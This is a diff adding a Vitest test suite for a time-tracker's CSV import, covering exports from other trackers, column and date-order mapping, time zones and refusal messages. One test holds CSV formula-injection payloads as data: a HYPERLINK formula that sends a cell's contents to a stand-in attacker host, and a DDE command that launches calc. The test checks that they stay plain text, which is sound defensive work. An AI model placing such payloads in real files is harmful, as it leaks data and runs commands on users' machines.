@@ -1,0 +1,177 @@
+import { readFileSync } from 'node:fs'
+
+import { describe, expect, test } from 'vitest'
+
+import { mostRows, readFile, type FileOptions, type FileRead } from './transfer.file.ts'
+
+const sample = (name: string) =>
+  new Uint8Array(readFileSync(new URL(`../../../../tests/support/exports/${name}`, import.meta.url)))
+const bytes = (text: string) => new TextEncoder().encode(text)
+const read = (given: Uint8Array, options: Partial<FileOptions> = {}) =>
+  readFile(given, { timezone: 'Europe/London', ...options })
+function rowsOf(name: string, options: Partial<FileOptions> = {}): FileRead {
+  const answer = read(sample(name), options)
+  if (answer.kind !== 'read') throw new Error(JSON.stringify(answer))
+  return answer.file
+}
+
+describe('the exports of other trackers are recognised by their columns', () => {
+  test('Harvest: decimal hours, no times', () => {
+    const { source, rows } = rowsOf('harvest.csv')
+    expect(source).toBe('harvest')
+    expect(rows.map((row) => [row.row, row.user, row.date, row.start, row.minutes, row.billable])).toEqual([
+      [2, 'Sam Stone', '2026-03-02', null, 210, true],
+      [3, 'Sam Stone', '2026-03-02', null, 255, true],
+      [4, 'Sam Stone', '2026-03-03', null, 60, false],
+      [5, 'Maya Moss', '2026-03-03', null, 380, true],
+    ])
+    expect(rows[3]?.details).toBe('Levels along the quay,\nsouth side')
+  })
+
+  test('Toggl Track: times with seconds, an entry over midnight', () => {
+    const { source, rows } = rowsOf('toggl.csv')
+    expect(source).toBe('toggl')
+    expect(rows.map((row) => [row.email, row.date, row.start, row.end_date, row.end, row.task])).toEqual([
+      ['sam@old.example', '2026-03-02', '09:00', '2026-03-02', '12:30', 'Levels'],
+      ['sam@old.example', '2026-03-02', '12:30', '2026-03-02', '17:00', 'Drawing'],
+      ['sam@old.example', '2026-03-03', '22:00', '2026-03-04', '02:15', 'Levels'],
+      ['maya@old.example', '2026-03-03', '14:00', '2026-03-03', '15:20', ''],
+    ])
+  })
+
+  test('Clockify: month first and 12 hours, which one date of the file gives away', () => {
+    const { source, order, rows } = rowsOf('clockify.csv')
+    expect([source, order]).toEqual(['clockify', 'mdy'])
+    expect(rows.map((row) => [row.date, row.start, row.end])).toEqual([
+      ['2026-03-02', '09:00', '12:30'],
+      ['2026-03-02', '12:30', '17:00'],
+      ['2026-03-13', '22:00', '02:15'],
+      ['2026-03-03', '14:00', '15:20'],
+    ])
+  })
+
+  test('Kimai: an activity is the task, the name and not the user name is the person', () => {
+    const { source, rows } = rowsOf('kimai.csv')
+    expect(source).toBe('kimai')
+    expect(rows.map((row) => [row.user, row.task, row.start, row.end, row.minutes, row.client])[0]).toEqual([
+      'Sam Stone',
+      'Levels',
+      '09:00',
+      '12:30',
+      210,
+      'Harbour Trust',
+    ])
+  })
+
+  test('none of them has a row that cannot be read', () => {
+    for (const name of ['harvest.csv', 'toggl.csv', 'clockify.csv', 'kimai.csv'])
+      expect(
+        rowsOf(name).rows.flatMap(({ problems }) => Object.keys(problems)),
+        name,
+      ).toEqual([])
+  })
+})
+
+describe('any other file', () => {
+  test('is asked for its columns when their names say nothing, and read once they are mapped', () => {
+    const answer = read(sample('german-semicolons.csv'))
+    expect(answer).toMatchObject({ kind: 'mapping', problem: 'Say which column holds the date.' })
+    expect(answer).toMatchObject({
+      file: { delimiter: ';', columns: [{ name: 'Datum', samples: ['02.03.2026', '03.03.2026'] }, {}, {}, {}, {}, {}] },
+    })
+    const { rows } = rowsOf('german-semicolons.csv', {
+      mapping: { date: 0, start: 1, end: 2, duration: 3, details: 5 },
+    })
+    expect(rows.map((row) => [row.date, row.start, row.end, row.minutes, row.details])).toEqual([
+      ['2026-03-02', '09:00', '12:30', 210, 'Nivellement am Kai – Nordseite'],
+      ['2026-03-03', '13:00', '15:15', 135, 'Prüfung'],
+    ])
+  })
+
+  test('is asked for the order of its dates when they may be read two ways', () => {
+    expect(read(sample('ambiguous-dates.csv'))).toMatchObject({
+      kind: 'date_order',
+      possible: ['dmy', 'mdy'],
+      sample: '1/2/2026',
+    })
+    expect(rowsOf('ambiguous-dates.csv', { date_order: 'dmy' }).rows.map(({ date }) => date)).toEqual([
+      '2026-02-01',
+      '2026-04-03',
+    ])
+    expect(rowsOf('ambiguous-dates.csv', { date_order: 'mdy' }).rows.map(({ date }) => date)).toEqual([
+      '2026-01-02',
+      '2026-03-04',
+    ])
+  })
+
+  test('turns instants to the clock of the zone that the row, or the organisation, names', () => {
+    const answer = read(
+      bytes(
+        'start,end,tz\n2026-07-01T23:30:00Z,2026-07-02T00:30:00Z,\n2026-07-01 08:00 +0000,2026-07-01 09:00 +0000,Asia/Kolkata\n',
+      ),
+    )
+    expect(
+      answer.kind === 'read' && answer.file.rows.map((row) => [row.date, row.start, row.end, row.timezone]),
+    ).toEqual([
+      ['2026-07-02', '00:30', '01:30', 'Europe/London'],
+      ['2026-07-01', '13:30', '14:30', 'Asia/Kolkata'],
+    ])
+  })
+
+  test('keeps formulas as the text that they are', () => {
+    expect(rowsOf('formulas.csv').rows.map(({ details }) => details)).toEqual([
+      '=HYPERLINK("http://evil.example/?"&A1,"Levels")',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '+1 day on the quay',
+    ])
+  })
+
+  test('says what is wrong with which cell, and leaves lines of totals out', () => {
+    const answer = read(bytes('Date,Hours,Notes\n2026-02-30,1,a\n2026-03-01,lots,b\n2026-03-02,,c\n,,\nTotal,,\n'))
+    const rows = answer.kind === 'read' ? answer.file.rows : []
+    expect(rows.map(({ row, problems }) => [row, problems])).toMatchObject([
+      [2, { date: ['There is no such day as “2026-02-30”.'] }],
+      [3, { hours: ['“lots” is not a duration.'] }],
+      [4, {}],
+      [6, { date: ['“Total” is not a date.'] }],
+    ])
+  })
+})
+
+describe('what is no CSV in UTF-8 is refused with a sentence that names it', () => {
+  test.each([
+    ['windows-1252.csv', 'This file is not in UTF-8: it looks like Windows-1252 (“ANSI”).'],
+    ['utf-16.csv', 'This file is in UTF-16, as Excel’s “Unicode Text” is, not in UTF-8.'],
+  ])('%s', (name, says) => {
+    const answer = read(sample(name))
+    expect(answer.kind === 'refused' && answer.problem).toBe(
+      `${says} Save it as CSV in UTF-8 (in Excel: “CSV UTF-8”) and choose it again.`,
+    )
+  })
+
+  test.each([
+    ['nothing', new Uint8Array(), 'This file is empty.'],
+    [
+      'a workbook',
+      new Uint8Array([0x50, 0x4b, 3, 4, 20]),
+      'This is an Excel workbook or a ZIP archive, not a CSV file.',
+    ],
+    ['a PDF', bytes('%PDF-1.7'), 'This is a PDF, not a CSV file.'],
+    ['UTF-16 without a mark', bytes('D\0a\0t\0e\0,\0H\0\n\0'), 'This file is in UTF-16'],
+    ['a picture', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 3]), 'This is no text file.'],
+    ['a header alone', bytes('Date,Hours\n'), 'This file has no rows: the first line must name the columns.'],
+    ['an open quote', bytes('Date,Hours\n"2026,1\n'), 'This file cannot be read as CSV: A quote that opens on line 2'],
+  ])('%s', (_, given, says) => {
+    const answer = read(given)
+    expect(answer.kind === 'refused' && answer.problem).toContain(says)
+  })
+
+  test(`200,000 rows, of which ${mostRows} are taken`, () => {
+    const rows = (count: number) => bytes(`Date,Hours\n${'2026-03-02,1\n'.repeat(count)}`)
+    expect(read(rows(mostRows)).kind).toBe('read')
+    const answer = read(rows(200_000))
+    expect(answer.kind === 'refused' && answer.problem).toBe(
+      'This file has about 200,000 rows; an import takes at most 20,000. Split it, by year or by person, and import the parts.',
+    )
+  })
+})
